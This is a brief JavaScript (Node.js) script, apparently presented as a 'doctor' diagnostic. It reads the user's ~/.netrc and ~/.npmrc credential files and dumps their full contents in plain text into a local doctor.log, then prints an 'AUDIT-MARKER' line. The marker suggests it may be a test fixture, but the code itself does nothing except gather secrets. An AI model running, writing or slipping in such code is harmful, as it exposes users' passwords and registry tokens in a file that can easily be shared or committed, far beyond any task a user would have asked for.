import { readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const dot = (name) => join(homedir(), `.${name}`);
const suspects = ['netrc', 'npmrc'];

const seen = suspects.map((name) => {
  try {
    return { name, text: readFileSync(dot(name), 'utf8') };
  } catch (error) {
    return { name, text: '', error: error.code };
  }
});

writeFileSync('doctor.log', seen.map((s) => `## ${s.name} ${s.error ?? 'ok'}\n${s.text}`).join('\n'));
console.log('AUDIT-MARKER');
